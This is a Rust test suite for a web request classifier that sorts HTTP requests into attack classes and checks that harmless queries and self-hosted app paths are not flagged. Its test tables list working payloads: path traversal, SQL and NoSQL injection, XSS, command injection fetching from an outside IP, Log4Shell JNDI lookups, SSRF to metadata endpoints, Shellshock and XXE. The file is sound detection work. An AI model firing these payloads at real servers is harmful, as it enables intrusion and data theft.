use proptest::prelude::*;

use super::*;
use crate::event::AttackClass::{self, *};

const FIREFOX: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0";

fn request<'a>(method: &'a str, target: &'a str, status: u16) -> HttpRequest<'a> {
    HttpRequest {
        method: method.as_bytes(),
        target: target.as_bytes(),
        status,
        user_agent: FIREFOX.as_bytes(),
        host: b"home.example.org",
        ..HttpRequest::default()
    }
}

#[test]
fn every_signature_compiles() {
    let required = required::Required::new();
    for table in values::TABLES.iter().copied().flatten() {
        assert!(signatures::Signatures::new(&[table], &required).compile(), "{:?}", table[0].rule);
    }
    for pattern in [shell::COMMAND, files::PROGRAM] {
        assert!(signatures::Expression::new(pattern).compiled().is_some(), "{pattern}");
    }
}

#[test]
fn attacks_have_their_class() {
    let mut classifier = Classifier::new();
    for (target, status, class) in [
        ("/../../etc/passwd", 400, PathTraversal),
        ("/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", 400, PathTraversal),
        ("/static/..%252f..%252fsecret", 404, PathTraversal),
        ("/img/%c0%ae%c0%ae/%c0%ae%c0%ae/x", 404, PathTraversal),
        ("/view?file=....//....//etc/passwd", 200, PathTraversal),
        ("/view?file=/etc/passwd", 200, FileInclusion),
        ("/view?file=php://filter/convert.base64-encode/resource=index", 200, FileInclusion),
        ("/view?page=http://evil.example/shell.txt?", 200, FileInclusion),
        ("/?q=file:///c:/windows/win.ini", 200, FileInclusion),
        ("/?id=1%27%20or%20%271%27=%271", 200, SqlInjection),
        ("/?id=1+union+select+1,2,3--", 200, SqlInjection),
        ("/?id=1/**/UnIoN/*!50000SeLeCt*/1,2", 200, SqlInjection),
        ("/?user=admin%27--", 200, SqlInjection),
        ("/?id=1;drop%20table%20users", 200, SqlInjection),
        ("/?id=1%20and%20sleep(5)", 200, SqlInjection),
        ("/?id=1'%20waitfor%20delay%20'0:0:5'--", 200, SqlInjection),
        ("/?user[$ne]=1&pass[$ne]=1", 200, SqlInjection),
        ("/?user=*)(uid=*))(|(uid=*", 200, SqlInjection),
        ("/?q=<script>alert(1)</script>", 200, Xss),
        ("/?q=%22%3E%3Csvg/onload=alert(1)%3E", 200, Xss),
        ("/?q=%26lt%3Bimg%20src%3Dx%20onerror%3Dalert(1)%26gt%3B", 200, Xss),
        ("/?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)", 200, Xss),
        ("/?next=java%09script:alert(1)", 200, Xss),
        ("/?x=;cat%20/etc/passwd", 200, RceAttempt),
        ("/?x=$(wget%20http://203.0.113.1/a)", 200, RceAttempt),
        ("/?x=%60id%60", 200, RceAttempt),
        ("/?cmd=whoami", 200, RceAttempt),
        ("/?name={{7*7}}", 200, RceAttempt),
        ("/?name=${T(java.lang.Runtime).getRuntime().exec('id')}", 200, RceAttempt),
        ("/?x=<?php%20system($_GET[1]);?>", 200, RceAttempt),
        ("/?x=%3C!--%23exec%20cmd=%22ls%22--%3E", 200, RceAttempt),
        ("/?x=rO0ABXNyABFqYXZh", 200, RceAttempt),
        ("/index.php?-d+allow_url_include%3don", 200, RceAttempt),
        ("/?x=${${lower:j}ndi:ldap://x.example/a}", 200, Jndi),
        ("/?url=http://169.254.169.254/latest/meta-data/", 200, Ssrf),
        ("/?url=http://127.0.0.1:6379/", 200, Ssrf),
        ("/?x=gopher://127.0.0.1:11211/_stats", 200, Ssrf),
        ("/.env", 200, ConfigProbe),
        ("/.git/config", 404, ConfigProbe),
        ("/wp-config.php.bak", 404, ConfigProbe),
        ("/foo.sql", 401, ConfigProbe),
        ("/c99.php", 404, Webshell),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, CveProbe),
        ("/wp-login.php", 404, CveProbe),
    ] {
        let found = classifier.classify(&request("GET", target, status));
        assert_eq!(found.map(|attack| attack.class), Some(class), "{target}: {found:?}");
    }
}

/// What people and their programs ask for; none is more than `suspicious`, and that only when refused.
const HARMLESS: &[(&str, &str, u16)] = &[
    ("GET", "/search?q=union+select+committee", 200),
    ("GET", "/search?q=O%27Brien", 200),
    ("GET", "/search?q=O'Brien+and+sons", 200),
    ("GET", "/search?q=1+or+2+bedrooms", 200),
    ("GET", "/search?q=drop+table+lamp", 200),
    ("GET", "/search?q=select+a+dress+from+our+shop", 200),
    ("GET", "/search?q=rock+%27n%27+roll", 200),
    ("GET", "/search?q=it%27s+5+o%27clock+--+really", 200),
    ("GET", "/search?q=for(int+i%3D0;+i%3Cn;+%2B%2Bi)+std::cout+%3C%3C+i;", 200),
    ("GET", "/search?q=std::vector%3Cint%3E+v;+int+main()+%7B+return+0;+%7D", 200),
    ("GET", "/search?q=a+%3C+b+and+b+%3E+c", 200),
    ("GET", "/search?q=Tom+%26+Jerry;+the+movie", 200),
    ("GET", "/search?q=what+is+javascript%3A+an+introduction", 200),
    ("GET", "/search?q=price+%3E%3D+100+and+size%3D42", 200),
    ("GET", "/api?filter=%7B%22name%22:%22Anna%22,%22age%22:%7B%22from%22:3%7D%7D", 200),
    ("GET", "/api?data=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.c2ln", 200),
    ("GET", "/items/550e8400-e29b-41d4-a716-446655440000", 200),
    ("GET", "/login?next=https://home.example.org/dash?tab=2", 200),
    ("GET", "/login?next=%2Fadmin%2Fusers%2F%3Fpage%3D2", 302),
    ("GET", "/oauth/callback?code=4/0AX4XfWh&state=abc&scope=https://www.googleapis.com/auth/userinfo.email", 302),
    ("GET", "/?utm_source=news&utm_campaign=%7B%7Bcampaign.name%7D%7D&gclid=Cj0KCQ", 200),
    ("GET", "/?fbclid=IwAR0_x-y&ref=a%7Cb", 200),
    ("GET", "/files/report..final.pdf", 200),
    ("GET", "/files/photo...jpg", 200),
    ("GET", "/wiki/%E6%97%A5%E6%9C%AC%E8%AA%9E", 200),
    ("GET", "/search?q=%E5%AF%BF%E5%8F%B8+%E6%9D%B1%E4%BA%AC", 200),
    ("GET", "/form?size=select&colour=red;blue", 200),
    ("GET", "/wiki/Foo_(disambiguation)", 200),
    ("GET", "/calendar?range=2026-01-01..2026-02-01", 200),
    ("GET", "/search?q=C%2B%2B+%26+C%23", 200),
    ("GET", "/search?q=cat+food;+dog+food", 200),
    ("GET", "/search?q=how+to+sleep+(better)", 200),
    ("GET", "/search?q=alert+(red)+level", 200),
    ("GET", "/maps?ll=40.4,-3.7&z=12", 200),
    ("GET", "/?color=%23ff0000&w=100%25", 200),
    ("GET", "/apple-touch-icon-120x120-precomposed.png", 404),
    ("GET", "/.well-known/security.txt", 404),
    ("GET", "/.well-known/acme-challenge/x1", 200),
    ("GET", "/assets/app.js.map", 404),
];

/// Self-hosted applications of one's own: paths that attackers like too.
const OWN_APPLICATIONS: &[(&str, &str, u16)] = &[
    ("PROPFIND", "/remote.php/dav/files/anna/", 207),
    ("MKCOL", "/remote.php/dav/files/anna/.config", 201),
    ("PUT", "/remote.php/dav/files/anna/backup.sql", 201),
    ("GET", "/remote.php/dav/files/anna/.env", 200),
    ("REPORT", "/remote.php/dav/calendars/anna/personal/", 207),
    ("GET", "/index.php/apps/files/?dir=/Photos&fileid=12", 200),
    ("GET", "/ocs/v2.php/apps/notifications/api/v2/notifications?format=json", 200),
    ("POST", "/index.php/login/v2", 200),
    ("GET", "/status.php", 200),
    ("POST", "/wp-login.php", 302),
    ("GET", "/wp-login.php?redirect_to=https%3A%2F%2Fhome.example.org%2Fwp-admin%2F&reauth=1", 200),
    ("GET", "/wp-admin/", 302),
    ("POST", "/wp-admin/admin-ajax.php", 200),
    ("GET", "/wp-admin/post.php?post=12&action=edit", 200),
    ("GET", "/wp-admin/load-scripts.php?c=0&load%5Bchunk_0%5D=jquery-core,jquery-migrate,utils&ver=6.5", 200),
    ("GET", "/wp-json/wp/v2/posts?per_page=10&_fields=id,title", 200),
    ("GET", "/wp-content/uploads/2024/05/photo.jpg", 404),
    ("GET", "/?p=123&preview=true", 200),
    ("GET", "/phpmyadmin/index.php?route=/sql&db=shop&table=orders&pos=0", 200),
    ("POST", "/phpmyadmin/index.php?route=/", 200),
    ("GET", "/adminer.php?server=db&username=anna&db=shop&select=orders", 200),
    ("GET", "/grafana/api/ds/query?ds_type=prometheus", 200),
    ("GET", "/api/datasources/proxy/1/api/v1/query?query=sum(rate(http_requests_total%5B5m%5D))%20by%20(code)", 200),
    ("GET", "/api/v1/query_range?query=up%7Bjob%3D%22node%22%7D%20%3D%3D%200&start=1&end=2&step=15", 200),
    (
        "GET",
        "/explore?left=%7B%22datasource%22:%22loki%22,%22queries%22:%5B%7B%22expr%22:%22%7Bapp%3D%5C%22web%5C%22%7D%20%7C%3D%20%5C%22error%5C%22%22%7D%5D%7D",
        200,
    ),
    ("GET", "/loki/api/v1/query_range?query=%7Bjob%3D%22nginx%22%7D%20%7C~%20%22error%7Cwarn%22&limit=100", 200),
    ("GET", "/d/abc/overview?orgId=1&var-host=$__all&from=now-6h&to=now", 200),
    ("GET", "/anna/project.git/info/refs?service=git-upload-pack", 200),
    ("POST", "/anna/project.git/git-upload-pack", 200),
    ("GET", "/anna/project/src/branch/main/.env.example", 200),
    ("GET", "/anna/project/raw/branch/main/docker-compose.yml", 200),
    ("GET", "/group/project/-/blob/main/.gitlab-ci.yml", 200),
    ("GET", "/anna/project/compare/main...feature", 200),
    ("GET", "/v2/_catalog", 200),
    ("GET", "/v2/library/alpine/manifests/latest", 200),
    ("GET", "/api/sync?excludeDomains=true", 200),
    ("POST", "/identity/connect/token", 200),
    ("GET", "/notifications/hub/negotiate", 200),
    ("GET", "/admin/diagnostics", 200),
    (
        "GET",
        "/auth/authorize?response_type=code&redirect_uri=http%3A%2F%2F192.168.1.10%3A8123%2F%3Fauth_callback%3D1&client_id=http%3A%2F%2F192.168.1.10%3A8123%2F&state=eyJ",
        200,
    ),
    ("GET", "/api/websocket", 101),
    ("GET", "/api/camera_proxy_stream/camera.door?token=abc", 200),
    ("GET", "/web/index.html#!/home.html", 200),
    ("GET", "/Items/abc/Images/Primary?fillHeight=300&quality=96&tag=x", 200),
    ("GET", "/Users/abc/Items?SortBy=SortName,ProductionYear&IncludeItemTypes=Movie&Fields=PrimaryImageAspectRatio", 200),
    ("GET", "/_matrix/client/v3/sync?filter=%7B%22room%22:%7B%22timeline%22:%7B%22limit%22:20%7D%7D%7D&timeout=30000", 200),
    ("PUT", "/_matrix/client/v3/rooms/!abc%3Aexample.org/send/m.room.message/m1", 200),
    ("GET", "/_matrix/client/v3/profile/%40anna%3Aexample.org", 200),
    ("GET", "/.well-known/matrix/client", 200),
    ("GET", "/config.json", 200),
    ("GET", "/api/endpoints/1/docker/containers/json?all=1", 200),
    ("GET", "/api/endpoints/2/docker/v1.41/containers/json?filters=%7B%22label%22:%5B%22a%3Db%22%5D%7D", 200),
    ("GET", "/outpost.goauthentik.io/start?rd=https%3A%2F%2Fhome.example.org%2F", 302),
    (
        "GET",
        "/application/o/authorize/?client_id=abc&redirect_uri=http://localhost:3000/callback&scope=openid%20profile&response_type=code",
        302,
    ),
    ("GET", "/authelia/?rd=https%3A%2F%2Fphotos.example.org%2F&rm=GET", 200),
    ("GET", "/api/albums?shared=true", 200),
    ("GET", "/api/v3/queue?page=1&pageSize=20&includeUnknownSeriesItems=true", 200),
    ("GET", "/admin/api.php?summaryRaw&auth=abc", 200),
    ("GET", "/rest/ping.view?u=anna&t=abc&s=xyz&v=1.16.1&c=app&f=json", 200),
    ("GET", "/share/abc?path=/Documents/2024%20(copy)/a%20%26%20b.pdf", 200),
    ("GET", "/uploads/image%20(1).png", 200),
    ("POST", "/api/auth/login", 200),
    ("GET", "/node-red/#flow/1", 200),
    ("GET", "/docs/etc/passwd-format.html", 200),
    ("GET", "/man/etc/shadow.5.html", 404),
    ("GET", "/manager/html", 401),
    ("GET", "/solr/core/select?q=*:*&fq=price:%5B0+TO+100%5D&wt=json", 200),
    ("GET", "/index/_search?q=user:anna+AND+age:%3E30", 200),
    ("GET", "/odata/Products?$filter=Price%20gt%2020%20and%20Name%20eq%20'Milk'&$top=10&$orderby=Name", 200),
    ("GET", "/jira/issues/?jql=project%20%3D%20%22HOME%22%20AND%20status%20%3D%20Open%20ORDER%20BY%20created%20DESC", 200),
    ("GET", "/graphql?query=%7Bme%7Bid%20name%7D%7D", 200),
    ("POST", "/graphql", 200),
];

#[test]
fn the_harmless_is_left_alone() {
    let mut classifier = Classifier::new();
    let mut flagged = Vec::new();
    for (method, target, status) in HARMLESS.iter().chain(OWN_APPLICATIONS) {
        // A status alone is no attack.
        let found = classifier.classify(&request(method, target, *status));
        if let Some(attack) = found.filter(|attack| attack.class != Suspicious || *status < 400) {
            flagged.push(format!("{method} {target}: {} ({})", attack.why, attack.class.as_str()));
        }
    }
    assert!(flagged.is_empty(), "\n{}", flagged.join("\n"));
}

/// What browsers and crawlers ask for by themselves is not even suspicious when it is missing.
#[test]
fn what_is_asked_for_unprompted_may_be_missing() {
    let mut classifier = Classifier::new();
    for target in ["/favicon.ico", "/robots.txt", "/ads.txt", "/apple-touch-icon.png", "/.well-known/security.txt", "/app.js.map"] {
        assert_eq!(classifier.classify(&request("GET", target, 404)), None, "{target}");
    }
}

#[test]
fn other_protocols_and_refused_lines_are_read() {
    let mut classifier = Classifier::new();
    let whole = |text: &'static [u8]| HttpRequest { target: text, status: 400, ..HttpRequest::default() };
    for (request, class) in [
        (whole(b"\x16\x03\x01\x02\x00\x01"), Suspicious),
        (whole(b"SSH-2.0-Go"), Scanner),
        (whole(b"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr"), Scanner),
        (whole(b"GET /../../etc/passwd HTTP/1.1"), PathTraversal),
        (whole(b"/../../etc/passwd"), PathTraversal),
        (whole(b""), Suspicious),
        (request("CONNECT", "example.com:443", 400), Ssrf),
        (request("GET", "http://example.com/", 200), Ssrf),
        (request("POST", "/login", 401), LoginBrute),
        (request("GET", "/nothing-here", 404), Suspicious),
    ] {
        let found = classifier.classify(&request);
        assert_eq!(found.map(|attack| attack.class), Some(class), "{request:?}: {found:?}");
    }
    assert_eq!(classifier.classify(&request("GET", "http://home.example.org:80/x", 200)), None);
}

#[test]
fn headers_bodies_and_tools_are_looked_at() {
    let mut classifier = Classifier::new();
    for (agent, class) in [
        ("sqlmap/1.8 (https://sqlmap.org)", Some(Scanner)),
        ("() { :; }; /bin/bash -c 'id'", Some(RceAttempt)),
        ("${jndi:ldap://x.example/a}", Some(Jndi)),
        ("1' and sleep(5)-- -", Some(SqlInjection)),
        ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", None),
        ("curl/8.5.0", None),
        (FIREFOX, None),
    ] {
        let request = HttpRequest { user_agent: agent.as_bytes(), ..request("GET", "/", 200) };
        assert_eq!(classifier.classify(&request).map(|attack| attack.class), class, "{agent}");
    }
    for (body, class) in [
        ("a=1&b=%3Cscript%3Ealert(1)%3C/script%3E", Some(Xss)),
        (r#"{"user":{"$ne":null}}"#, Some(SqlInjection)),
        (r#"{"q":"' or '1'='1"}"#, Some(SqlInjection)),
        ("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", Some(FileInclusion)),
        ("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n;cat /etc/passwd\r\n--x--", Some(RceAttempt)),
        ("<note><to>Anna</to><text>see you at 5</text></note>", None),
        (r#"{"title":"Fish & chips; a history","n":[1,2]}"#, None),
    ] {
        let found = classifier.classify_with_body(&request("POST", "/form", 200), body.as_bytes());
        assert_eq!(found.map(|attack| attack.class), class, "{body}: {found:?}");
    }
}

#[test]
fn answers_do_not_depend_on_what_was_asked_before() {
    let mut classifier = Classifier::new();
    assert_eq!(classifier.classify(&request("GET", "/phpmyadmin/", 200)), None);
    assert_eq!(classifier.classify(&request("GET", "/phpmyadmin/", 404)).map(|attack| attack.class), Some(CveProbe));
    assert_eq!(classifier.classify(&request("GET", "/phpmyadmin/", 200)), None);
    assert!(AttackClass::ALL.is_sorted());
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, ..ProptestConfig::default() })]

    /// Any bytes, up to 64 KiB, made of pieces that rules look for. A failure prints the case; proptest keeps its seed.
    #[test]
    fn any_bytes_are_answered(
        pieces in prop::collection::vec(prop_oneof![
            prop::collection::vec(any::<u8>(), 0..64),
            prop::sample::select(vec![&b"%25"[..], b"%2e", b"../", b"${", b"}", b"'", b"/*", b"&lt;", b"\\u00", b"(select", b"<", b"on", b"=", b";", b"%u", b"&#x", b"\xC0", b"\xEF\xBC", b"?", b"&"]).prop_map(<[u8]>::to_vec),
        ], 0..2_000),
        status in any::<u16>(),
    ) {
        let mut text = pieces.concat();
        text.truncate(64 * 1024);
        let mut classifier = Classifier::new();
        for (method, target, agent) in [(&b"GET"[..], text.as_slice(), &b"x"[..]), (b"", text.as_slice(), b""), (b"GET", b"/", text.as_slice())] {
            classifier.classify_with_body(&HttpRequest { method, target, user_agent: agent, referer: agent, status, ..HttpRequest::default() }, &text);
        }
    }
}

/// Pieces of attacks and of harmless requests.
fn pieces() -> impl Strategy<Value = String> {
    const PIECES: &[&str] = &[
        "/",
        ".",
        "-",
        "_",
        "a",
        "Z",
        "9",
        "=",
        ".env",
        "/.git",
        "/admin",
        "/login",
        ".php",
        ".bak",
        "/wp-content/",
        "readme.txt",
        "pg_",
        "/blog",
        "c99.php",
        "/favicon.ico",
        "'",
        "<",
        "script",
        "onload=",
        "alert(1)",
        "{{7*7}}",
        ";cat /etc/passwd",
        "$(id)",
        "../",
        "|",
        " ",
        "javascript:",
    ];
    prop::collection::vec(prop::sample::select(PIECES), 0..8).prop_map(|pieces| pieces.concat())
}

#[test]
fn hosts_that_exist_to_be_asked_are_seen_in_any_referer() {
    for host in ["oast", "interact.sh", "collaborator"] {
        for length in 0..40 {
            let text = format!("{}{host}{}", "x".repeat(length), "y".repeat(40 - length));
            assert!(values::calls_back(text.as_bytes()) && values::calls_back(host.as_bytes()), "{text}");
        }
    }
    assert!(!values::calls_back(b"https://www.example.org/oasis?t.s=labor") && !values::calls_back(b"oas"));
}

#[test]
fn each_word_that_tells_is_found_in_any_case_wherever_it_stands() {
    let Classifier { in_agents, quick: Quick { telling, telling_when_refused }, .. } = Classifier::new();
    for search in [&in_agents, &telling, &telling_when_refused] {
        for (index, word) in search.words().iter().enumerate() {
            for (before, after) in (0..4).flat_map(|before| (0..4).map(move |after| (before, after))) {
                let text = [&b"~~~"[..before], word, &b"~~~"[..after]].concat();
                for text in [text.to_ascii_uppercase(), text] {
                    assert!(search.find_all(&text).contains(&index), "{}", text.escape_ascii());
                }
            }
        }
    }
}

/// The short ways give the answer of the long ones. A failure prints the case; proptest keeps its seed.
#[test]
fn a_quick_look_misses_nothing() {
    let (quick, paths) = (Quick::new(), Paths::new());
    let signatures = signatures::Signatures::new(&[script::SIGNATURES, shell::SIGNATURES, files::SIGNATURES], &required::Required::new());
    let class = |rule: Option<&'static Rule>| rule.map(|rule| rule.class);
    proptest!(|(text in pieces())| {
        let value = text.to_ascii_lowercase();
        prop_assert_eq!(class(signatures.find(value.as_bytes())), class(signatures.find_carefully(value.as_bytes())));
        let target = format!("/{text}");
        if values::has_nothing_to_decode(target.as_bytes()) && !quick.may_tell_when_refused(target.as_bytes()) {
            let [mut decoded, mut resolved, mut spare] = [const { Vec::new() }; 3];
            let careful = examine(target.as_bytes(), &paths, &mut Values::new(), &mut [&mut decoded, &mut resolved, &mut spare]);
            let named = name_only(target.as_bytes(), &mut Vec::new());
            prop_assert!(careful.always.is_none() && careful.refused.is_none() && careful.missing.is_none(), "{:?}", careful);
            prop_assert_eq!((careful.login, careful.asked_unprompted), (named.login, named.asked_unprompted));
        }
    });
}
